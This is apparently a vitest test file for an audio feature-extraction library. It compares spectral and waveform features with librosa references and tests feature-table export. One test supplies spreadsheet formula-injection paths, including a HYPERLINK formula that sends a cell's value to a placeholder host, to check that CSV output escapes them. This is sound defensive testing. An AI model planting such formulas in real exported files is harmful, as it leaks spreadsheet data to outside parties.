// Acoustic features (SPEC §7) against float64 numpy references of librosa's definitions
// (scripts/golden_features.py), on synthetic signals with known answers and on real recordings.
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { openAudio } from "../src/audio/index.js";
import { oggPageCrc, parsePage } from "../src/audio/oggseek.js";
import { samplesReader } from "../src/audio/samples-reader.js";
import {
  computeFeatures, featureColumns, featureRow, featuresOfFile, featuresOfSignal, parseFeatureList,
  SCALAR_FEATURES, TargetError, type FeatureTarget, type FeatureValues, type ScalarFeature,
} from "../src/features/features.js";
import { melFilterbank, melFilterbankDense, melFrequencies } from "../src/features/mel.js";
import { parquetReadObjects } from "hyparquet";
import { featureTableCsv } from "../src/features/table.js";
import { featureTableNpy, featureTableParquet } from "./table-helpers.js";
import { runFeaturesTask } from "../src/features/task.js";
import { ParamsError, parseParams } from "../src/engine/params.js";
import { FIXTURES, readF32, readJson, ROOT } from "./golden.js";

const GOLDEN = join(ROOT, "test/golden/features");

interface GoldenCase {
  name: string;
  input: { signal: string; samplerate: number } | { fixture: string };
  params: Record<string, unknown>;
  target: { start?: number; end?: number; low_freq?: number; high_freq?: number };
  geometry: { frames: number; nperseg: number; hop: number };
  expected: Record<ScalarFeature, number> & { log_mel: number[] };
}
const { cases } = readJson<{ cases: GoldenCase[] }>(join(GOLDEN, "cases.json"));
const byName = (name: string) => cases.find((c) => c.name === name)!;

function targetOf(c: GoldenCase): FeatureTarget {
  return { start: c.target.start, end: c.target.end, lowFreq: c.target.low_freq, highFreq: c.target.high_freq };
}

async function computeCase(c: GoldenCase): Promise<FeatureValues> {
  if ("signal" in c.input) return featuresOfSignal(readF32(join(GOLDEN, c.input.signal)), c.input.samplerate, c.params, targetOf(c));
  return featuresOfFile(join(FIXTURES, c.input.fixture), c.params, targetOf(c));
}

/**
 * Tolerances. The engine's STFT runs in float32 (SPEC §3: "to float32 precision"), the reference
 * in float64; features sum f64 accumulators over those f32 powers.
 * - Waveform features (duration, rms, peak, zcr) read the same f32 samples: only f64 rounding
 *   differs (1e-9), except when resampling or a band filter conditions the signal (their output
 *   is float32: 1e-6 dB; measured 7e-8).
 * - Ratios of spectra (centroid, bandwidth, rolloff): f32 FFT error is ~1e-7 of the frame's
 *   largest magnitude per bin; summed magnitudes move the centroid by ≲ 1e-5 relative. The
 *   bandwidth weighs those magnitudes by (f − centroid)², up to (fs/2)²: for a pure tone, whose
 *   true variance is a few hundred Hz², the f32 floor adds ~0.3 % (0.16 Hz of 50 Hz); 5e-3.
 *   Rolloff is a bin frequency per frame: equal unless a cumulative sum lands within f32 error
 *   of 85 % (not in these cases; 1e-6 relative).
 * - Flatness is a geometric mean over every bin, including bins 100+ dB below the peak where f32
 *   FFT round-off (~−140 dB re peak) replaces the true leakage; 1e-3 relative plus 1e-6 absolute
 *   (pure tones: flatness ~1e-4, set by those bins).
 * - Mean-spectrum peak and −20 dB edges: exact bins.
 * - snr: a ratio of frame energies (sums over all bins): 1e-4 dB.
 * - log-mel: band powers of ≥ 1e-10 averaged in dB; bands whose power sits ~140 dB below the
 *   frame's peak carry the f32 FFT floor: 0.02 dB absolute (measured 0.006 dB).
 */
const REL: Partial<Record<ScalarFeature, number>> = {
  spectral_centroid_hz: 1e-5, spectral_bandwidth_hz: 5e-3, spectral_rolloff_hz: 1e-6, spectral_flatness: 1e-3,
};

function expectFeatures(got: FeatureValues, c: GoldenCase) {
  // Resampled or band-filtered: the engine's conditioned samples are float32 results, not the file's samples.
  const conditioned = c.params.low_freq !== undefined || c.params.high_freq !== undefined || c.params.resample === true;
  for (const f of SCALAR_FEATURES) {
    const want = c.expected[f];
    const what = `${c.name}: ${f} = ${got[f]}, golden ${want}`;
    if (f === "peak_frequency_hz" || f === "low_freq_hz" || f === "high_freq_hz" || f === "bandwidth_hz") {
      expect(got[f], what).toBe(want);
    } else if (f === "rms_dbfs" || f === "peak_dbfs") {
      expect(Math.abs(got[f] - want), what).toBeLessThan(conditioned ? 1e-6 : 1e-9);
    } else if (f === "duration_s" || f === "zero_crossing_rate") {
      expect(Math.abs(got[f] - want), what).toBeLessThan(1e-12);
    } else if (f === "snr_db") {
      expect(Math.abs(got[f] - want), what).toBeLessThan(1e-4);
    } else {
      expect(Math.abs(got[f] - want), what).toBeLessThanOrEqual(REL[f]! * Math.abs(want) + (f === "spectral_flatness" ? 1e-6 : 1e-9));
    }
  }
  expect(got.log_mel.length).toBe(64);
  const melErr = Math.max(...c.expected.log_mel.map((v, b) => Math.abs(got.log_mel[b] - v)));
  expect(melErr, `${c.name}: log-mel max |Δ| dB`).toBeLessThan(0.05);
}

describe("features vs numpy references of librosa's definitions", () => {
  for (const c of cases) {
    it(c.name, async () => expectFeatures(await computeCase(c), c));
  }
});

describe("known answers", () => {
  it("pure 1 kHz tone at 0.5: peak frequency 1 kHz, centroid near it, rms −9.03 dBFS, peak −6.02 dBFS, zcr ≈ 2f/fs", async () => {
    const f = await computeCase(byName("tone"));
    expect(f.peak_frequency_hz).toBe(1000);
    expect(Math.abs(f.spectral_centroid_hz - 1000)).toBeLessThan(10); // Hann leakage, magnitude-weighted
    expect(f.rms_dbfs).toBeCloseTo(20 * Math.log10(0.5 / Math.SQRT2), 3);
    expect(f.peak_dbfs).toBeCloseTo(20 * Math.log10(0.5), 2);
    // 2·1000/16000 = 0.125 in the interior; the edge-padded first and last frames see fewer crossings.
    expect(f.zero_crossing_rate).toBeGreaterThan(0.115);
    expect(f.zero_crossing_rate).toBeLessThan(0.125);
    expect(f.spectral_flatness).toBeLessThan(1e-3);
    expect(f.low_freq_hz).toBeLessThan(1000);
    expect(f.high_freq_hz).toBeGreaterThan(1000);
    expect(f.bandwidth_hz).toBeLessThan(100);
    // The loudest mel band is the one whose centre (point b+1 of 66 mel-spaced points) is nearest 1 kHz.
    const centres = Array.from(melFrequencies(66, 0, 8000)).slice(1, 65);
    const nearest = centres.reduce((best, c, b) => (Math.abs(c - 1000) < Math.abs(centres[best] - 1000) ? b : best), 0);
    expect(f.log_mel.indexOf(Math.max(...f.log_mel))).toBe(nearest);
  });

  it("white noise: flatness ≈ e^(−γ) (exponential periodogram bins), centroid ≈ fs/4, rolloff ≈ 0.85·fs/2, zcr ≈ 1/2", async () => {
    const f = await computeCase(byName("noise"));
    expect(Math.abs(f.spectral_flatness - Math.exp(-0.5772156649))).toBeLessThan(0.02);
    expect(Math.abs(f.spectral_centroid_hz - 4000)).toBeLessThan(100);
    expect(Math.abs(f.spectral_rolloff_hz - 6800)).toBeLessThan(150);
    expect(Math.abs(f.zero_crossing_rate - 0.5)).toBeLessThan(0.02);
    expect(Math.abs(f.rms_dbfs + 20)).toBeLessThan(0.2);
  });

  it("two tones (1 kHz at 0.5, 3 kHz at 0.25): peak at 1 kHz, magnitude-weighted centroid ≈ 1667 Hz; the band [2, 4] kHz sees only 3 kHz", async () => {
    const f = await computeCase(byName("two_tones"));
    expect(f.peak_frequency_hz).toBe(1000);
    expect(Math.abs(f.spectral_centroid_hz - (1000 * 0.5 + 3000 * 0.25) / 0.75)).toBeLessThan(15);
    const band = await computeCase(byName("two_tones_clip_band"));
    expect(band.peak_frequency_hz).toBe(3000);
    expect(Math.abs(band.spectral_centroid_hz - 3000)).toBeLessThan(1);
    expect(band.duration_s).toBeCloseTo(0.5, 12);
  });

  it("linear chirp 500 → 6000 Hz: centroid ≈ mean instantaneous frequency 3250 Hz", async () => {
    const f = await computeCase(byName("chirp"));
    expect(Math.abs(f.spectral_centroid_hz - 3250)).toBeLessThan(50);
  });

  it("digital silence: the documented floors", async () => {
    const f = await computeCase(byName("silence"));
    expect(f.rms_dbfs).toBe(-200);
    expect(f.peak_dbfs).toBe(-200);
    expect(f.snr_db).toBe(0);
    expect(f.spectral_flatness).toBeCloseTo(1, 12);
    expect(f.spectral_centroid_hz).toBe(0);
    expect(f.zero_crossing_rate).toBe(0);
    expect(Array.from(f.log_mel).every((v) => v === -100)).toBe(true);
  });

  it("spectral_flatness stays in [0, 1] where every bin is equal (silence, at the 1e-10 floor): it read up to 1.0000000000000286", async () => {
    // Above 1 before (16 kHz: 1.0000000000000062 for a sample, 1.0000000000000053 for 1 s; 96 kHz
    // 1.0000000000000286), below it at 44.1 kHz (0.9999999999999958): the rounding of exp(mean ln P) / mean P.
    for (const [n, fs] of [[1, 16_000], [16_000, 16_000], [1, 96_000], [96_000, 96_000], [1, 44_100], [44_100, 44_100]]) {
      const f = await featuresOfSignal(new Float32Array(n), fs);
      expect(f.spectral_flatness, `${n} samples at ${fs} Hz`).toBeLessThanOrEqual(1);
      expect(f.spectral_flatness, `${n} samples at ${fs} Hz`).toBeGreaterThan(1 - 1e-13);
    }
  });
});

describe("Slaney mel filterbank", () => {
  for (const [sr, n] of [[16000, 512], [44100, 1102]]) {
    it(`equals librosa.filters.mel(sr=${sr}, n_fft=${n}, n_mels=64), float32 for float32`, () => {
      const golden = readF32(join(GOLDEN, `mel_${sr}_${n}.f32`));
      const dense = melFilterbankDense(sr, n, 64);
      const bins = Math.floor(n / 2) + 1;
      const differing: string[] = [];
      dense.forEach((row, b) => row.forEach((w, k) => {
        const g = golden[b * bins + k];
        // librosa rounds the triangle to float32, then its product with the norm: one rounding of
        // the product left 140 and 296 of these weights one float32 step off.
        if (g > 0 && w !== g) differing.push(`[${b}][${k}] ${w} ≠ ${g}`);
        // A triangle's foot can land on a bin: 0 in librosa, ±1e-17 here when exp/log round differently.
        if (g === 0) expect(Math.abs(w)).toBeLessThan(1e-12);
      }));
      expect(differing).toEqual([]);
      // The sparse form holds exactly the non-zero weights, in order.
      const sparse = melFilterbank(sr, n, 64);
      let at = 0;
      for (let b = 0; b < 64; b++) {
        for (let k = 0; k < bins; k++) {
          const inside = k >= sparse.start[b] && k < sparse.start[b] + sparse.length[b];
          expect(inside ? sparse.weights[at++] : 0).toBe(Math.fround(dense[b][k]));
        }
      }
      expect(at).toBe(sparse.weights.length);
    });
  }
});

describe("targets and parameters", () => {
  const tone = readF32(join(GOLDEN, "tone.f32"));

  it("a clip equals the same samples' features only where the definitions are local (duration, rms, peak)", async () => {
    const clip = await featuresOfSignal(tone, 16000, { window_size: 0.032 }, { start: 0.25, end: 0.5 });
    expect(clip.duration_s).toBeCloseTo(0.25, 12);
    expect(clip.peak_frequency_hz).toBe(1000);
    expect(clip.rms_dbfs).toBeCloseTo(20 * Math.log10(0.5 / Math.SQRT2), 3);
  });

  it("display parameters (PCEN, normalization, scale, clamp, cmap) do not change features", async () => {
    const a = await featuresOfSignal(tone, 16000, { window_size: 0.032 });
    const b = await featuresOfSignal(tone, 16000, { window_size: 0.032, pcen: false, normalize: false, scale: "power", clamp: true, min_dB: -50, cmap: "magma" });
    expect(featureRow(b)).toEqual(featureRow(a));
  });

  it("time expansion scales frequencies and durations to real units", async () => {
    const reader = samplesReader([tone], 16000);
    const f = await computeFeatures(reader, { window_size: 0.032 / 10 }, {}, { timeExpansion: 10 });
    expect(f.duration_s).toBeCloseTo(0.1, 12);
    expect(f.peak_frequency_hz).toBe(10000);
  });

  it("the band reaches the Nyquist bin where the bin width does not divide fs/2 exactly (312.5 kHz: n = 7812, (fs/2)/(fs/7812) = 3905.9999999999995)", async () => {
    let seed = 7;
    const noise = Float32Array.from({ length: 62_500 }, () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31 - 0.5) * 0.5);
    const f = await featuresOfSignal(noise, 312_500);
    expect(f.high_freq_hz).toBe(156_250); // the flat spectrum's −20 dB edge is its last bin
    const band = await featuresOfSignal(noise, 312_500, {}, { lowFreq: 1000, highFreq: 156_250 }); // a bound on the Nyquist bin itself
    expect(band.high_freq_hz).toBe(156_250);
  });

  it("a band edge above the recording's Nyquist frequency is clipped to it, as a dataset of several rates needs — the item failed", async () => {
    const clipped = await featuresOfSignal(tone, 16000, { window_size: 0.032 }, { lowFreq: 500, highFreq: 60_000 });
    expect(clipped).toEqual(await featuresOfSignal(tone, 16000, { window_size: 0.032 }, { lowFreq: 500, highFreq: 8000 }));
    expect(await featuresOfSignal(tone, 16000, { window_size: 0.032 }, { highFreq: 9000 })).toEqual(await featuresOfSignal(tone, 16000, { window_size: 0.032 }));
  });

  it("a clip shorter than the frames' spacing (a 3 ms bat call at 12.5 ms) is refused saying its length, the hop and window in use, and the window_size or hop_size that puts a frame in it", async () => {
    // Frames centred every 0.016 s (0.24, 0.256): none in [0.25, 0.255).
    const refusal = featuresOfSignal(tone, 16000, { window_size: 0.032 }, { start: 0.25, end: 0.255 });
    await expect(refusal).rejects.toThrow(TargetError);
    await expect(refusal).rejects.toThrow(/^no frame is centred in \[0\.25, 0\.255\) s \(the recording has \d+ frames, 0\.016 s apart, the last centred at [\d.]+ s\): the clip lasts 0\.005 s, less than the 0\.016 s between frames \(window_size 0\.032 s × hop_size 0\.5 at 16000 Hz\) — give a window_size ≤ 0\.01 s or a hop_size ≤ 0\.15 to put a frame in it$/);
    // Each suggestion does put a frame in it.
    for (const params of [{ window_size: 0.01 }, { window_size: 0.032, hop_size: 0.15 }]) {
      expect((await featuresOfSignal(tone, 16000, params, { start: 0.25, end: 0.255 })).duration_s).toBeCloseTo(0.005, 12);
    }
    // The default 25 ms × 0.5 at 250 kHz (12.5 ms apart) and a 3 ms clip: 0.006 s or 0.12 (a window of 1500 samples, hop 750 = 3 ms).
    const call = new Float32Array(250_000 / 10);
    await expect(featuresOfSignal(call, 250_000, {}, { start: 0.013, end: 0.016 })).rejects.toThrow(/: the clip lasts 0\.003 s, less than the 0\.0125 s between frames \(window_size 0\.025 s × hop_size 0\.5 at 250000 Hz\) — give a window_size ≤ 0\.006 s or a hop_size ≤ 0\.12 to put a frame in it$/);
    for (const params of [{ window_size: 0.006 }, { hop_size: 0.12 }]) await featuresOfSignal(call, 250_000, params, { start: 0.013, end: 0.016 });
    // Shorter than a sample, holding sample 4000 (0.25 s): a frame on every sample alone puts one in it,
    // and does; holding no sample instant, nothing does.
    await expect(featuresOfSignal(tone, 16000, { window_size: 0.032 }, { start: 0.25, end: 0.25001 })).rejects.toThrow(/: the clip lasts 0\.00001 s, less than the 0\.016 s between frames \(window_size 0\.032 s × hop_size 0\.5 at 16000 Hz\) — shorter than a sample at 16000 Hz: only a frame on every sample puts one in it — a window_size of 0\.00016 s \(2 samples\) with hop_size 0\.5$/);
    expect((await featuresOfSignal(tone, 16000, { window_size: 0.00016, hop_size: 0.5 }, { start: 0.25, end: 0.25001 })).duration_s).toBeCloseTo(0.00001, 12);
    await expect(featuresOfSignal(tone, 16000, { window_size: 0.032 }, { start: 0.25001, end: 0.25002 })).rejects.toThrow(/ — shorter than a sample at 16000 Hz, and no sample instant lies in it: no window puts a frame in it$/);
  });

  it("a clip ending at the recording's end, given or clamped to it, has the whole recording's frames from its start on: the frame centred on the end counts, as with no end", async () => {
    // 16000 samples, hop 128: a frame is centred on the end (1 s), which the whole recording counts.
    const params = { window_size: 0.032, hop_size: 0.25 };
    const toTheEnd = featureRow(await featuresOfSignal(tone, 16000, params, { start: 0.5 }));
    expect(featureRow(await featuresOfSignal(tone, 16000, params, { start: 0.5, end: 1 }))).toEqual(toTheEnd);
    expect(featureRow(await featuresOfSignal(tone, 16000, params, { start: 0.5, end: 7 }))).toEqual(toTheEnd);
    expect(featureRow(await featuresOfSignal(tone, 16000, params, { start: 0, end: 1 }))).toEqual(featureRow(await featuresOfSignal(tone, 16000, params)));
    // A clip after the last frame but the one on the end holds that frame (it was refused: "no frame is centred in [0.999, 1) s").
    expect((await featuresOfSignal(tone, 16000, params, { start: 0.999, end: 1 })).duration_s).toBeCloseTo(0.001, 12);
    // Short of the end, [start, end) as before: the frame on 0.504 s (64.5 hops) is not centred in [0.496, 0.504).
    await expect(featuresOfSignal(tone, 16000, params, { start: 0.4965, end: 0.504 })).rejects.toThrow(/^no frame is centred in \[0\.4965, 0\.504\) s/);
    // An odd window (125 samples): no frame is centred on the end, for the whole recording or a clip to it.
    const odd = { window_size: 0.0078125, hop_size: 1 };
    await expect(featuresOfSignal(tone, 16000, odd, { start: 0.995, end: 1 })).rejects.toThrow(/^no frame is centred in \[0\.995, 1\) s/);
  });

  it("bad targets and parameters are named", async () => {
    const bad: [FeatureTarget, RegExp][] = [
      [{ start: -1 }, /start/],
      [{ start: 2 }, /past the end/],
      [{ start: 0.5, end: 0.5 }, /end must be > start/],
      [{ start: 0.5, end: 0.50001 }, /no frame is centred/],
      [{ lowFreq: 5000, highFreq: 4000 }, /band/],
      [{ lowFreq: 8000, highFreq: 9000 }, /^band \[8000, 9000\] Hz lies above this recording's spectrum: its Nyquist frequency is 8000 Hz$/],
      [{ lowFreq: 1001, highFreq: 1002 }, /holds no FFT bin/],
    ];
    for (const [target, message] of bad) {
      await expect(featuresOfSignal(tone, 16000, { window_size: 0.032 }, target), JSON.stringify(target)).rejects.toThrow(TargetError);
      await expect(featuresOfSignal(tone, 16000, { window_size: 0.032 }, target)).rejects.toThrow(message);
    }
    const nan = tone.slice();
    nan[100] = NaN;
    await expect(featuresOfSignal(nan, 16000)).rejects.toThrow(/non-finite samples/);
    await expect(featuresOfSignal(tone.map((v) => v * 1e30), 16000)).rejects.toThrow(/too large for float32 spectra/);
    await expect(featuresOfSignal(tone, 16000, { window_size: -1 })).rejects.toThrow(ParamsError);
    await expect(featuresOfSignal(tone, 16000, { channel: 1 })).rejects.toThrow(/channel/);
    // A WAV whose data chunk is empty: said as it is, not as a start (the user gave none) past its end.
    await expect(featuresOfSignal(new Float32Array(0), 16000)).rejects.toThrow(new TargetError("the recording holds no samples"));
    await expect(featuresOfSignal(new Float32Array(0), 16000, {}, { start: 1, end: 2 })).rejects.toThrow(new TargetError("the recording holds no samples"));
    await expect(featuresOfFile(join(ROOT, "package.json"))).rejects.toThrow(/not a recognised audio format/);
  });

  it("a file read through openAudio gives the same values as its decoded samples", async () => {
    const path = join(FIXTURES, "formats/wav_pcm_16.wav");
    const reader = await openAudio(path);
    const samples = await reader.read(0, 0, reader.info.frames);
    const rate = reader.info.samplerate;
    await reader.close();
    expect(featureRow(await featuresOfFile(path))).toEqual(featureRow(await featuresOfSignal(samples, rate)));
  });

  it("a header that lies about the length (an Ogg granule of 2^40 frames) is the decoder's error at open, not an allocation of its size", async () => {
    const ogg = new Uint8Array(readFileSync(join(FIXTURES, "formats/ogg_vorbis.ogg")));
    let last = -1; // the last page: its granule position is the stream's length
    for (let i = 0; i + 27 <= ogg.length; i++) if (ogg[i] === 0x4f && parsePage(ogg, i)) last = i;
    const page = parsePage(ogg, last)!;
    const v = new DataView(ogg.buffer, last, 27);
    v.setUint32(6, 0, true);
    v.setUint32(10, 2 ** 8, true); // 2^40
    v.setUint32(22, oggPageCrc(ogg, last, page.length), true);
    const path = join(mkdtempSync(join(tmpdir(), "sonotile-features-")), "lying.ogg");
    writeFileSync(path, ogg);
    // Refused as it is opened: 2^40 frames cannot come of its 8614 bytes (it opened, and failed at the stream's end).
    const lie = new RegExp(`^${path}: vorbis: the stream's last granule position, 1099511627776, is more than its 8614 bytes can hold`);
    await expect(openAudio(path)).rejects.toThrow(lie);
    await expect(featuresOfFile(path)).rejects.toThrow(lie);
  });
});

describe("the pool task", () => {
  it("returns values, or a failure for what retrying cannot change (not audio, a clip outside the recording, bad parameters)", async () => {
    const path = join(FIXTURES, "formats/wav_pcm_16.wav");
    const task = { kind: "features" as const, path, timeExpansion: 1, params: parseParams({}), target: {} };
    const ok = await runFeaturesTask(task);
    expect("values" in ok && featureRow(ok.values)).toEqual(featureRow(await featuresOfFile(path)));
    expect(await runFeaturesTask({ ...task, path: join(ROOT, "package.json") })).toEqual({ failure: expect.stringMatching(/not a recognised audio format/) });
    expect(await runFeaturesTask({ ...task, path: join(ROOT, "missing.wav") })).toEqual({ failure: expect.stringMatching(/cannot open/) });
    // The part of the target refused too, so that a command line names the option that gave it (extract: exit 2 when no file takes it).
    expect(await runFeaturesTask({ ...task, target: { start: 3 } })).toEqual({ failure: expect.stringMatching(/past the end/), part: "clip" });
    expect(await runFeaturesTask({ ...task, target: { lowFreq: 9000 } })).toEqual({ failure: "band [9000, Nyquist] Hz lies above this recording's spectrum: its Nyquist frequency is 8000 Hz", part: "band" });
    // The fields too, so that a command line names its flags (sonotile extract: high_freq (--high-freq): …).
    expect(await runFeaturesTask({ ...task, params: parseParams({ high_freq: 20000 }) })).toEqual({
      failure: "high_freq: must be <= Nyquist (8000 Hz)",
      issues: [{ field: "high_freq", message: "must be <= Nyquist (8000 Hz)" }],
    });
    // Past a time-expanded recording's real end: that times are real seconds, naming where the factor came from.
    expect(await runFeaturesTask({ ...task, timeExpansion: 10, timeExpansionName: "the recording's time_expansion", target: { start: 0.5 } })).toEqual({
      failure: "start 0.5 s is past the end of the recording (0.1 s); times are real seconds: time expansion 10 (the recording's time_expansion) makes the file's 1 s last 0.1 s",
      part: "clip",
    });
  });
});

describe("feature tables", () => {
  it("columns expand log_mel to mel_00 … mel_63 and rows follow them", async () => {
    expect(featureColumns(["rms_dbfs", "log_mel"])).toEqual(["rms_dbfs", ...Array.from({ length: 64 }, (_, b) => `mel_${String(b).padStart(2, "0")}`)]);
    const f = await computeCase(byName("tone"));
    const row = featureRow(f, ["snr_db", "log_mel"]);
    expect(row[0]).toBe(f.snr_db);
    expect(row.slice(1)).toEqual(Array.from(f.log_mel));
  });

  it("CSV quotes paths as RFC 4180 says and writes clip bounds when targets are clips", async () => {
    const values = await computeCase(byName("tone"));
    const csv = featureTableCsv([{ path: 'a "b", c.wav', clip: { start: 0.5, end: 1 }, values }], ["rms_dbfs"], { stored: false, clips: true });
    expect(csv).toBe(`path,start_time,end_time,rms_dbfs\n"a ""b"", c.wav",0.5,1,${values.rms_dbfs}\n`);
  });

  it("CSV writes a path a spreadsheet would run as a formula (=, +, -, @) after a ', and numbers as they are", async () => {
    const values = await computeCase(byName("tone"));
    const rows = ["=HYPERLINK(\"http://x.example/?\"&A1).wav", "+1+1.wav", "-2.wav", "@SUM(A1).wav"].map((path) => ({ path, values: { ...values, rms_dbfs: -12.5 } }));
    expect(featureTableCsv(rows, ["rms_dbfs"], { stored: false, clips: false })).toBe(
      `path,rms_dbfs\n"'=HYPERLINK(""http://x.example/?""&A1).wav",-12.5\n'+1+1.wav,-12.5\n'-2.wav,-12.5\n'@SUM(A1).wav,-12.5\n`,
    );
  });

  it("rows of stored records lead with their ids, in CSV, the .npy sidecar and Parquet alike", async () => {
    const values = await computeCase(byName("tone"));
    const rows = [{ path: "night/a.wav", recordingId: "r-1", clip: { id: "c-1", start: 0.5, end: 1 }, values }];
    const clips = { stored: true, clips: true };
    expect(featureTableCsv(rows, ["rms_dbfs"], clips)).toBe(`clip_id,recording_id,path,start_time,end_time,rms_dbfs\nc-1,r-1,night/a.wav,0.5,1,${values.rms_dbfs}\n`);
    expect(JSON.parse((await featureTableNpy(rows, ["rms_dbfs"], clips, {})).sidecar).rows).toEqual([{ clip_id: "c-1", recording_id: "r-1", path: "night/a.wav", start_time: 0.5, end_time: 1 }]);
    // A table without rows (every item failed) has the same columns.
    expect(featureTableCsv([], ["rms_dbfs"], clips)).toBe("clip_id,recording_id,path,start_time,end_time,rms_dbfs\n");
    expect(featureTableCsv([], ["rms_dbfs"], { stored: true, clips: false })).toBe("recording_id,path,rms_dbfs\n");
    const parquet = await featureTableParquet([{ path: "night/a.wav", recordingId: "r-1", values }], ["rms_dbfs"], { stored: true, clips: false }, {});
    const read = await parquetReadObjects({ file: parquet.buffer.slice(parquet.byteOffset, parquet.byteOffset + parquet.byteLength) as ArrayBuffer });
    expect(read).toEqual([{ recording_id: "r-1", path: "night/a.wav", rms_dbfs: values.rms_dbfs }]);
  });

  it("parses a feature list in table order and names unknown features", () => {
    expect(parseFeatureList("log_mel, rms_dbfs,rms_dbfs")).toEqual(["rms_dbfs", "log_mel"]);
    expect(() => parseFeatureList("rms_dbfs,loudness")).toThrow(/unknown feature 'loudness'/);
    expect(() => parseFeatureList(" , ")).toThrow(/no feature/);
  });
});
